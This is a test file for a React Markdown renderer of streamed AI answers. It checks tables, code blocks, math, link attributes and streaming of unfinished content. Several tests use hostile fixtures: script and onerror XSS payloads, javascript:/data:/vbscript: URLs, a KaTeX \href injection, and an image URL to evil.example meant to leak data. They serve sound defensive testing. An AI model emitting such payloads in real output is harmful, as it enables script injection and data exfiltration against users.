import { render, screen, within } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { Markdown } from './markdown.js';

const answer = `## Streaming, token by token

A paragraph with \`inline code\` and a [link](https://example.com/docs).

- first
- second

\`\`\`ts
const answer = 42;
\`\`\`

| Step | Latency |
| --- | ---: |
| First token | 250 ms |
`;

describe('Markdown', () => {
  it('renders headings, lists, tables, inline code and fenced code with a copy button', async () => {
    const { container } = render(<Markdown isStreaming={false}>{answer}</Markdown>);
    expect(
      screen.getByRole('heading', { level: 2, name: 'Streaming, token by token' }),
    ).toBeTruthy();
    expect(screen.getAllByRole('listitem').map((item) => item.textContent)).toEqual([
      'first',
      'second',
    ]);
    const table = screen.getByRole('table');
    expect(within(table).getByRole('columnheader', { name: 'Latency' })).toBeTruthy();
    expect(within(table).getByRole('cell', { name: '250 ms' })).toBeTruthy();
    expect(container.querySelector('[data-streamdown="inline-code"]')?.textContent).toBe(
      'inline code',
    );
    const codeBlock = container.querySelector('[data-streamdown="code-block"]');
    expect(codeBlock?.getAttribute('data-language')).toBe('ts');
    expect(screen.getByRole('button', { name: 'Copy code' })).toBeTruthy();
    expect(codeBlock?.textContent).toContain('const answer = 42;');
  });

  it('opens links in a new tab without opener, referrer or endorsement', () => {
    render(<Markdown isStreaming={false}>{'See [the docs](https://example.com/docs).'}</Markdown>);
    const link = screen.getByRole('link', { name: 'the docs' });
    expect(link.getAttribute('href')).toBe('https://example.com/docs');
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow ugc');
  });

  it('shows raw HTML from the model as text and never creates its elements', () => {
    const hostile =
      'Hello <script>window.pwned = true</script> <img src=x onerror="window.pwned = true"> <b>bold?</b>\n\n<iframe src="https://evil.example"></iframe>';
    const { container } = render(<Markdown isStreaming={false}>{hostile}</Markdown>);
    expect(container.querySelector('script, img, iframe, b')).toBeNull();
    expect(container.textContent).toContain('<script>window.pwned = true</script>');
    expect(container.textContent).toContain('<iframe src="https://evil.example"></iframe>');
    expect((window as { pwned?: boolean }).pwned).toBeUndefined();
  });

  it('does not turn javascript:, data: or vbscript: URLs into links', () => {
    const { container } = render(
      <Markdown isStreaming={false}>
        {
          '[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>) [c](vbscript:msgbox(1)) [d](JaVaScRiPt:alert(1))'
        }
      </Markdown>,
    );
    for (const anchor of container.querySelectorAll('a')) {
      expect(anchor.getAttribute('href') ?? '').toMatch(/^https?:|^mailto:/);
    }
    expect(screen.queryByRole('link')).toBeNull();
  });

  it('blocks images: a remote image loads by itself and can carry data out in its URL', () => {
    const { container } = render(
      <Markdown isStreaming={false}>{'![secret](https://evil.example/leak?q=secret)'}</Markdown>,
    );
    expect(container.querySelector('img')).toBeNull();
    expect(container.textContent).toContain('secret');
  });

  it('renders an unfinished fence as a code block while streaming instead of raw backticks', () => {
    const { container } = render(
      <Markdown isStreaming>{'Here you go:\n\n```ts\nconst partial = '}</Markdown>,
    );
    const codeBlock = container.querySelector('[data-streamdown="code-block"]');
    expect(codeBlock).not.toBeNull();
    expect(container.textContent).not.toContain('```');
  });

  it('renders a table whose rows are still arriving as a table', () => {
    const { container } = render(
      <Markdown isStreaming>{'| Step | Latency |\n| --- | --- |\n| First token | 25'}</Markdown>,
    );
    expect(container.querySelector('table')).not.toBeNull();
    expect(container.textContent).not.toContain('| ---');
  });

  it('renders $…$ inline and $$…$$ display math with KaTeX, MathML included', () => {
    const { container } = render(
      <Markdown isStreaming={false}>
        {'The rate is $r = n / t$ here.\n\n$$\n\\frac{n}{t}\n$$\n\nAnd after it, text.'}
      </Markdown>,
    );
    expect(container.querySelectorAll('.katex')).toHaveLength(2);
    expect(container.querySelector('.katex-display')).not.toBeNull();
    expect(container.querySelector('math')).not.toBeNull();
    expect(container.textContent).toContain('And after it, text.');
  });

  it('keeps an unfinished display formula from breaking the answer while it streams', () => {
    const { container } = render(
      <Markdown isStreaming>{'Before.\n\n$$\n\\sum_{k=0}^{K-1} d_0'}</Markdown>,
    );
    expect(container.textContent).toContain('Before.');
    expect(container.querySelector('.katex-error')).toBeNull();
  });

  it('does not let a formula link anywhere', () => {
    const { container } = render(
      <Markdown isStreaming={false}>{'$\\href{javascript:alert(1)}{x}$'}</Markdown>,
    );
    expect(container.querySelector('a')).toBeNull();
  });
});
